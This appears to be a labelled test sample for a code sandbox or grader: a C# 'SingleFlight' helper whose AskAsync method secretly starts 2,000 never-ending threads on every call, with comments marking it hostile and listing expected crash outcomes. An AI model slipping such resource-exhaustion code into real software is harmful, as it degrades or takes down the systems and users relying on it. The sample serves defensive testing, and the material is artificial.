// answer: hostile
// ends: out-of-memory, blocked, timeout, crashed
// attack: Starts threads that start threads for every caller
using System;
using System.Collections.Generic;
using System.Threading;
using System.Threading.Tasks;

class SingleFlight
{
    public Task<string> AskAsync(string key, Func<CancellationToken, Task<string>> ask, CancellationToken cancellationToken)
    {
        for (int i = 0; i < 2_000; i++)
            new Thread(() => Thread.Sleep(Timeout.Infinite)) { IsBackground = true }.Start();
        return ask(cancellationToken);
    }
}
